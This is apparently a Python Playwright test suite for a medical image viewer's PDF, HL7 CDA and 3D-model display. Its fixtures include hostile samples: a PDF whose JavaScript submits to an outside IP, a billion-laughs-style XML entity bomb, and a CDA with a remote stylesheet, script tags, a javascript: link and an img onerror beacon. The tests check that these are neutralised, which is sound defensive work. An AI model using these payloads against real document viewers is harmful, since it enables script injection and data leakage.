"""Encapsulated documents in their viewport: PDF by pdf.js, HL7 CDA by our own rules, and bad ones in both."""

from __future__ import annotations

import base64
import io
import re
import zlib
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pydicom
import pypdf
import pytest
from playwright.sync_api import Page, expect
from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.sequence import Sequence

from tests.kit.server import RunningServer, command_line, running_server
from tests.kit.shared_data import shared_data

from .conftest import Watch
from .pages import SLOW, Viewer, soon

pytestmark = [pytest.mark.row("VIEW-DISP-03"), pytest.mark.ps("3.3 C.24")]

PDF_CLASS, CDA_CLASS, STL_CLASS, OBJ_CLASS, MTL_CLASS = (
    f"1.2.840.10008.5.1.4.1.1.104.{n}" for n in range(1, 6)
)
MADE = ("pdf-two-pages", "cda", "stl-sphere")
STUDY = "2.25.7700160001"

LINKED = b"""%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\('open'\\);this.submitForm\\('http://198.51.100.7/'\\))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>
/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(http://198.51.100.7/)>>>>]>>endobj
4 0 obj<</Length 43>>stream
BT /F1 24 Tf 72 700 Td (Linked page) Tj ET
endstream endobj
5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
trailer<</Size 6/Root 1 0 R>>
%%EOF"""

LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&b;</title></ClinicalDocument>"""

PIXEL = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415408d763f8cfc000"
        "0003010100c9fe92ef0000000049454e44ae426082"
    )
).decode()

FULL = f"""<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/xsl" href="http://198.51.100.7/evil.xsl"?>
<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
<code code="11528-7" codeSystemName="LOINC" displayName="Radiology report"/><title>Chest CT</title>
<effectiveTime value="202601021530+0100"/>
<recordTarget><patientRole><id extension="P-17" root="1.2.3"/><patient>
<name><given>Ada</given><given>B.</given><family>Lovelace</family></name>
<administrativeGenderCode code="F"/><birthTime value="18151210"/></patient></patientRole></recordTarget>
<author><time value="20260102"/><assignedAuthor><id extension="7"/><assignedPerson><name>
<prefix>Dr.</prefix><given>Grace</given><family>Hopper</family></name></assignedPerson></assignedAuthor></author>
<custodian><assignedCustodian><representedCustodianOrganization><id root="1.2"/><name>City hospital</name>
</representedCustodianOrganization></assignedCustodian></custodian>
<component><structuredBody><component><section>
<code code="18782-3" codeSystemName="LOINC" displayName="Study observation"/><title>Findings</title>
<text><paragraph>Two <content styleCode="Bold">nodules</content>.</paragraph>
<list listType="ordered"><item>left</item><item>right</item></list>
<table><thead><tr><th>Lobe</th><th>mm</th></tr></thead><tbody><tr><td>upper</td><td>12</td></tr></tbody></table>
<script>document.title = 'stolen'</script><linkHtml href="javascript:alert(1)">a link</linkHtml>
<img src="http://198.51.100.7/spy.png" onerror="alert(2)"/><renderMultiMedia referencedObject="M1"/></text>
<entry><observation><code displayName="Body weight"/>
<value xsi:type="PQ" value="72" unit="kg"/></observation></entry>
<entry><observationMedia ID="M1">
<value mediaType="image/png" representation="B64">{PIXEL}</value>
</observationMedia></entry>
</section></component></structuredBody></component></ClinicalDocument>""".encode()


OBJ = b"""mtllib other.mtl
v 0 0 0
v 10 0 0
v 10 10 0
v 0 10 0
v 0 0 1
v 10 0 1
v 10 10 1
v 0 10 1
usemtl red
f 1 2 3 4
usemtl blue
f 5 6 7 8
"""
MTL = b"newmtl red\nKd 0.9 0 0\nnewmtl blue\nKd 0 0 0.9\n"
STL = b"""solid one
facet normal 0 0 1
outer loop
vertex 0 0 0
vertex 10 0 0
vertex 0 10 0
endloop
endfacet
endsolid one
"""
GREEN = [57000, 10900, 54000]
"""L* 87, a* -86, b* 82: about the green of a screen (PS3.3 C.10.7.1.1)."""


def held_in_cda(media_type: str, content: bytes) -> bytes:
    """A clinical document whose body is not XML (CDA R2 4.3.1.1)."""
    body = base64.b64encode(content).decode()
    return (
        '<ClinicalDocument xmlns="urn:hl7-org:v3"><title>Outside</title><component><nonXMLBody>'
        f'<text mediaType="{media_type}" representation="B64">{body}</text>'
        "</nonXMLBody></component></ClinicalDocument>"
    ).encode()


def document(number: int, sop_class: str, mime: str, content: bytes) -> Dataset:
    """An Encapsulated Document in the study of this test, a series of its own; `number` tells them apart."""
    ds = Dataset()
    ds.SOPClassUID, ds.SOPInstanceUID = sop_class, f"{STUDY}.{number}.1"
    ds.StudyInstanceUID, ds.SeriesInstanceUID = STUDY, f"{STUDY}.{number}"
    ds.PatientName, ds.PatientID, ds.Modality = "DOCUMENTS^BAD", "RRDOC", "DOC"
    ds.PatientBirthDate = ds.PatientSex = ds.StudyDate = ds.StudyTime = ""
    ds.SeriesNumber, ds.InstanceNumber = number, 1
    ds.MIMETypeOfEncapsulatedDocument = mime
    if content:
        ds.EncapsulatedDocumentLength = len(content)
        ds.EncapsulatedDocument = content + b"\0" * (len(content) % 2)
    ds.file_meta = FileMetaDataset()
    ds.file_meta.TransferSyntaxUID = "1.2.840.10008.1.2.1"
    return ds


def written_by_pypdf(password: str = "", attachment: str = "") -> bytes:
    """The two pages with a password, or with a file in them."""
    writer = pypdf.PdfWriter(io.BytesIO(two_pages()))
    if attachment:
        writer.add_attachment(attachment, b"see the film")
    if password:
        writer.encrypt(password, algorithm="AES-256")
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def two_pages() -> bytes:
    """The PDF of ../shared/data/made."""
    ds = pydicom.dcmread(shared_data() / "made" / "documents" / "pdf-two-pages.dcm")
    return bytes(ds.EncapsulatedDocument[: ds.EncapsulatedDocumentLength])


def partly_readable() -> bytes:
    """Five pages: the second is a picture of nothing, the data of the third and fourth are broken."""
    words = [b"BT /F1 24 Tf 72 700 Td (%d nodules) Tj ET" % number for number in range(1, 6)]
    packed = bytearray(zlib.compress(words[2]))
    packed[0], packed[2] = 0x11, 0xFF
    streams = [
        (words[0], b""),
        (b"0.5 g 72 72 200 200 re f", b""),
        (bytes(packed), b"/Filter/FlateDecode"),
        (zlib.compress(words[3]), b"/Filter/NoSuchFilter"),
        (words[4], b""),
    ]
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%b]/Count 5>>" % b" ".join(b"%d 0 R" % (4 + 2 * n) for n in range(5)),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    for number, (content, how) in enumerate(streams):
        objects.append(
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents %d 0 R" % (5 + 2 * number)
            + b"/Resources<</Font<</F1 3 0 R>>>>>>"
        )
        objects.append(b"<</Length %d%b>>stream\n%b\nendstream" % (len(content), how, content))
    file, places = b"%PDF-1.4\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(file))
        file += b"%d 0 obj%bendobj\n" % (number, one)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    head = b"xref\n0 %d\n0000000000 65535 f \n" % size
    return file + head + table + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (size, len(file))


@pytest.fixture(scope="module")
def bench(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningServer]:
    """A server with the documents of ../shared/data, and bad ones."""
    folder = tmp_path_factory.mktemp("documents")
    bad: list[tuple[str, str, bytes]] = [
        (PDF_CLASS, "application/pdf", LINKED),
        (PDF_CLASS, "application/pdf", two_pages()[:300]),
        (PDF_CLASS, "application/pdf", b""),
        (PDF_CLASS, "text/html", b"<script>alert(1)</script><p>page</p>"),
        (PDF_CLASS, "image/png", two_pages()),
        (CDA_CLASS, "text/xml", LAUGHS),
        (CDA_CLASS, "text/xml", FULL),
        (CDA_CLASS, "text/xml", held_in_cda("application/pdf", two_pages())),
        (CDA_CLASS, "text/xml", b"<ClinicalDocument><title>cut"),
        (PDF_CLASS, "application/pdf", b"\x00\x01\x02nothing at all"),
        (PDF_CLASS, "application/pdf", written_by_pypdf(password="secret")),
        (PDF_CLASS, "application/pdf", written_by_pypdf(attachment="notes\u202e<b>.txt")),
        (OBJ_CLASS, "model/obj", OBJ),
        (MTL_CLASS, "model/mtl", MTL),
        (STL_CLASS, "model/stl", STL),
        (PDF_CLASS, "application/pdf", partly_readable()),
    ]
    for number, (sop_class, mime, content) in enumerate(bad, 1):
        ds = document(number, sop_class, mime, content)
        if sop_class == OBJ_CLASS:  # PS3.3 C.35: the MTL that it names is the next object
            named = Dataset()
            named.ReferencedSOPClassUID, named.ReferencedSOPInstanceUID = MTL_CLASS, f"{STUDY}.{number + 1}.1"
            ds.ReferencedInstanceSequence = Sequence([named])
        if sop_class == STL_CLASS:
            ds.RecommendedDisplayCIELabValue = GREEN
        ds.save_as(folder / f"{number}.dcm", enforce_file_format=True)
    made = [shared_data() / "made" / "documents" / f"{name}.dcm" for name in MADE]
    real = shared_data() / "objects" / "encapsulated"
    command_line(folder / "data", "import", *map(str, [*folder.glob("*.dcm"), *made, real]), timeout=240.0)
    with running_server(folder, "--accept-any-ae", "--no-login") as running:
        yield running


def opened(page: Page, bench: RunningServer, study: str, series: str = "") -> Viewer:
    """The viewer on a study, with one of its series."""
    viewer = Viewer(page, bench.url)
    viewer.open(study)
    if series:
        viewer.series(series).click()
        viewer.until("(v, uid) => v.seriesInstanceUID === uid", arg=series)
    return viewer


def pages_of(page: Page) -> int:
    """How many pages pdf.js counts."""
    pdf = page.get_by_test_id("pdf")
    expect(pdf).to_be_visible(timeout=SLOW)
    return int(pdf.get_attribute("data-pages") or 0)


def drawn(page: Page, number: int) -> None:
    """Wait until that page is drawn."""
    one = page.locator(f'[data-testid="pdf-page"][data-page="{number}"]')
    expect(one).to_have_attribute("data-state", "drawn", timeout=SLOW)


@pytest.mark.parametrize(
    "path", ["made/documents/pdf-two-pages.dcm", "objects/encapsulated/OT000000.dcm"], ids=["made", "real"]
)
def test_a_pdf_has_the_pages_and_words_that_pypdf_finds(path: str, page: Page, bench: RunningServer) -> None:
    """pypdf, an independent reader, says how many pages there are and what stands on each."""
    ds = pydicom.dcmread(shared_data() / path)
    theirs = pypdf.PdfReader(io.BytesIO(ds.EncapsulatedDocument))
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    opened(page, bench, ds.StudyInstanceUID, ds.SeriesInstanceUID)
    assert pages_of(page) == len(theirs.pages)
    drawn(page, 1)
    page.get_by_test_id("document-copy").click()
    expect(page.get_by_test_id("notice")).to_have_text("The text is on the clipboard.")
    ours = page.evaluate("() => navigator.clipboard.readText()")
    words = [one.extract_text().split() for one in theirs.pages]
    assert ["".join(part.split()) for part in ours.split("\f")] == ["".join(part) for part in words]


def test_a_pdf_is_read_searched_enlarged_and_printed(page: Page, bench: RunningServer) -> None:
    """Two pages (TRUTH.csv): by keys, by number, by a word of the second; ink lies where it is said to be."""
    ds = pydicom.dcmread(shared_data() / "made" / "documents" / "pdf-two-pages.dcm", stop_before_pixels=True)
    page.add_init_script(
        "window.print = () => { window.printed = [...document.querySelectorAll('.printsheet img')]"
        ".map(i => [i.naturalWidth, i.naturalHeight]); window.dispatchEvent(new Event('afterprint')); }"
    )
    viewer = opened(page, bench, ds.StudyInstanceUID, ds.SeriesInstanceUID)
    assert pages_of(page) == 2
    drawn(page, 1)
    number = page.get_by_test_id("page-number")
    viewer.press("End")
    expect(number).to_have_value("2")
    viewer.press("Home")
    expect(number).to_have_value("1")
    page.get_by_test_id("fit-page").click()
    before = page.get_by_test_id("page-zoom").inner_text()
    viewer.press("+")
    expect(page.get_by_test_id("page-zoom")).not_to_have_text(before)
    viewer.press("Control+f")
    page.get_by_test_id("page-query").fill("PAGE 2")
    expect(page.get_by_test_id("page-found")).to_have_text("1 of 1")
    expect(number).to_have_value("2")
    viewer.press("Escape")
    viewer.press("Control+p")
    page.wait_for_function("() => window.printed")
    printed = page.evaluate("() => window.printed")
    assert printed == [[pytest.approx(595 / 72 * 150, abs=1), pytest.approx(842 / 72 * 150, abs=1)]] * 2
    expect(page.locator(".printsheet")).to_have_count(0)
    # the text of page 1 stands at x 72, y 700 from below (PDF points), in 24 points
    number.fill("1")
    number.press("Enter")
    drawn(page, 1)
    ink = page.locator('[data-testid="pdf-page"][data-page="1"] canvas').evaluate(
        """c => { const {data, width, height} = c.getContext('2d').getImageData(0, 0, c.width, c.height);
                  const dark = [];
                  for (let i = 0; i < data.length; i += 4)
                      if (data[i] < 100)
                          dark.push([(i / 4) % width / width, Math.floor(i / 4 / width) / height]);
                  return dark; }"""
    )
    low, high = np.min(ink, axis=0), np.max(ink, axis=0)
    assert low[0] == pytest.approx(73 / 595, abs=0.01)
    assert high[1] == pytest.approx((842 - 700 + 5) / 842, abs=0.01)
    assert low[1] == pytest.approx((842 - 700 - 18) / 842, abs=0.01)


def test_pages_that_cannot_be_searched_are_counted(page: Page, bench: RunningServer) -> None:
    """What is not found on broken or scanned pages may still be there: pypdf reads no word of them either."""
    theirs = pypdf.PdfReader(io.BytesIO(partly_readable())).pages
    silent = []
    for number, one in enumerate(theirs, 1):
        try:
            words = one.extract_text()
        except (pypdf.errors.PyPdfError, NotImplementedError, zlib.error):
            words = ""
        silent += [] if "nodules" in words else [number]
    viewer = opened(page, bench, STUDY, f"{STUDY}.16")
    assert pages_of(page) == 5
    mute, found = page.get_by_test_id("page-mute"), page.get_by_test_id("page-found")
    viewer.press("Control+f")
    expect(mute).to_have_count(0)
    page.get_by_test_id("page-query").fill("nodules")
    expect(found).to_have_text("1 of 2", timeout=SLOW)
    assert silent == [2, 3, 4]
    expect(mute).to_contain_text("3 of 5 pages have no text that can be read")
    expect(mute).to_contain_text("2, 3, 4")
    page.get_by_test_id("page-query").fill("4 nodules")
    expect(found).to_have_text("not found", timeout=SLOW)
    expect(mute).to_be_visible()
    opened(page, bench, STUDY, f"{STUDY}.12")  # two pages with words
    assert pages_of(page) == 2
    viewer.press("Control+f")
    page.get_by_test_id("page-query").fill("page")
    expect(found).to_have_text(re.compile("^1 of "), timeout=SLOW)
    expect(mute).to_have_count(0)


def test_a_pdf_runs_nothing_and_leads_nowhere(page: Page, bench: RunningServer) -> None:
    """Its script and its link over the whole page: the page is watched for requests and dialogs."""
    opened(page, bench, STUDY, f"{STUDY}.1")
    assert pages_of(page) == 1
    drawn(page, 1)
    page.get_by_test_id("pdf-page").click()
    assert page.locator(".kind a").count() == 0
    assert page.context.pages == [page]


BAD = {
    2: "The PDF is broken",
    3: "It holds no document.",
    4: "Its XML is broken.",
    6: "It defines entities of its own",
    9: "Its XML is broken.",
    10: "neither a PDF nor a clinical document",
    11: "The PDF is protected by a password.",
}
"""What is said in the place of each: truncated, empty, HTML, entities, cut, nothing at all."""


def test_bad_documents_get_a_sentence_and_their_file(
    page: Page, bench: RunningServer, tmp_path: Path
) -> None:
    viewer = opened(page, bench, STUDY)
    for number, words in BAD.items():
        viewer.series(f"{STUDY}.{number}").click()
        fault = page.get_by_test_id("kind-fault")
        expect(fault).to_contain_text(words, timeout=SLOW)
        if number == 3:
            continue
        with page.expect_download() as coming:
            fault.get_by_test_id("document-save").click()
        coming.value.save_as(tmp_path / "file")
        ds = pydicom.dcmread(bench.data.parent / f"{number}.dcm")
        assert (tmp_path / "file").read_bytes() == ds.EncapsulatedDocument[: ds.EncapsulatedDocumentLength]
    viewer.series(f"{STUDY}.1").click()  # the rest of the study is unharmed
    assert pages_of(page) == 1


def test_what_an_object_claims_is_not_believed(page: Page, bench: RunningServer) -> None:
    """A PDF that says it is a picture is shown as a PDF."""
    opened(page, bench, STUDY, f"{STUDY}.5")
    assert pages_of(page) == 2
    expect(page.get_by_test_id("document-claim")).to_have_text(
        "The object says that it holds image/png; it holds PDF."
    )


def test_a_clinical_document_is_a_page_to_read(page: Page, bench: RunningServer, watch: Watch) -> None:
    """Header, sections, list, table, codes, picture; not its stylesheet, script, links."""
    opened(page, bench, STUDY, f"{STUDY}.7")
    cda = page.get_by_test_id("cda")
    expect(cda.get_by_role("heading", level=1)).to_have_text("Chest CT")
    facts = page.get_by_test_id("cda-facts").locator("div").all_inner_texts()
    assert [fact.split("\n") for fact in facts] == [
        ["Patient", "Lovelace, Ada B. · 1815-12-10 · female"],
        ["Patient ID", "P-17"],
        ["Kind", "Radiology report"],
        ["Date", "2026-01-02 15:30 +0100"],
        ["Author", "Hopper, Grace, Dr. · 2026-01-02"],
        ["Custodian", "City hospital"],
    ]
    section = page.get_by_test_id("cda-section")
    assert section.locator("ol li").all_inner_texts() == ["left", "right"]
    assert section.locator("td").all_inner_texts() == ["upper", "12"]
    expect(section.locator("b")).to_have_text("nodules")
    expect(section.locator("summary")).to_have_text("1 coded entry")
    expect(section.locator("details li")).to_have_text("Body weight: 72 kg", use_inner_text=False)
    page.wait_for_function("() => document.querySelector('[data-testid=cda-picture]').naturalWidth === 1")
    assert section.locator("script, a, [onerror], img:not([src^=blob])").count() == 0
    expect(section).to_contain_text("a link [javascript:alert(1)]")
    assert "Reading Room" in page.title()
    assert watch.hosts <= {"127.0.0.1"}


def test_a_clinical_document_of_the_made_ones_and_one_that_holds_a_pdf(
    page: Page, bench: RunningServer
) -> None:
    ds = pydicom.dcmread(shared_data() / "made" / "documents" / "cda.dcm", stop_before_pixels=True)
    opened(page, bench, ds.StudyInstanceUID, ds.SeriesInstanceUID)
    cda = page.get_by_test_id("cda")
    expect(cda.get_by_role("heading", level=1)).to_have_text("Synthetic report 1", timeout=SLOW)
    expect(cda).to_contain_text("Ünïcode 日本 finding 1")
    opened(page, bench, STUDY, f"{STUDY}.8")
    assert pages_of(page) == 2


def test_a_model_is_drawn_with_its_size(page: Page, bench: RunningServer) -> None:
    """TRUTH.csv: a sphere of radius 14 mm in 320 triangles, of 11105.091 mm3."""
    ds = pydicom.dcmread(shared_data() / "made" / "documents" / "stl-sphere.dcm", stop_before_pixels=True)
    opened(page, bench, ds.StudyInstanceUID, ds.SeriesInstanceUID)
    facts = page.get_by_test_id("model-facts")
    expect(facts).to_contain_text("320 triangles", timeout=SLOW)
    expect(page.get_by_test_id("model-size")).to_have_text("28.0 × 28.0 × 28.0 mm")
    expect(page.get_by_test_id("model-volume")).to_have_text("11\u2009105.1 mm³")
    page.get_by_test_id("model-wire").click()
    expect(page.get_by_test_id("model-wire")).to_have_attribute("aria-pressed", "true")
    expect(page.get_by_test_id("mesh-view")).to_be_visible()


def test_a_pdf_names_the_files_it_carries(page: Page, bench: RunningServer) -> None:
    """Not opened; what would turn the writing direction is not in the name."""
    opened(page, bench, STUDY, f"{STUDY}.12")
    assert pages_of(page) == 2
    expect(page.get_by_test_id("document-attachments")).to_have_text(
        "It carries 1 file: notes<b>.txt. Save the document to open them.", timeout=SLOW
    )


def test_models_wear_their_materials_and_recommended_colours(page: Page, bench: RunningServer) -> None:
    """An OBJ with a red and a blue face by the MTL it names; an STL in the green of its CIELab value."""
    viewer = opened(page, bench, STUDY, f"{STUDY}.13")
    expect(page.get_by_test_id("model-materials")).to_have_text("2 materials", timeout=SLOW)
    expect(page.get_by_test_id("model-facts")).to_contain_text("4 triangles")
    has_hue(viewer, "F", "red")
    has_hue(viewer, "H", "blue")
    viewer.series(f"{STUDY}.15").click()
    expect(page.get_by_test_id("model-facts")).to_contain_text("1 triangle", timeout=SLOW)
    has_hue(viewer, "H", "green")


def has_hue(viewer: Viewer, face: str, hue: str) -> None:
    """Wait until that one of red, green and blue, alone, is what many pixels have, seen from feet or head."""
    hand = viewer.page.get_by_test_id("mesh-hand")
    viewer.page.wait_for_function(
        "() => document.querySelector('[data-testid=mesh-hand]')?.dataset.drawn > 0", timeout=SLOW
    )
    drawn = hand.get_attribute("data-drawn")
    viewer.page.get_by_test_id(f"mesh-from-{face}").click()
    expect(hand).not_to_have_attribute("data-drawn", drawn or "", timeout=SLOW)

    def check() -> None:
        picture = viewer.picture().astype(int)
        found = []
        for k, name in enumerate(("red", "green", "blue")):
            own, others = picture[..., k], np.delete(picture, k, axis=2)
            if np.count_nonzero((own > 60) & (others.max(axis=2) < own / 2)) > 2000:
                found.append(name)
        assert found == [hue]

    soon(check)
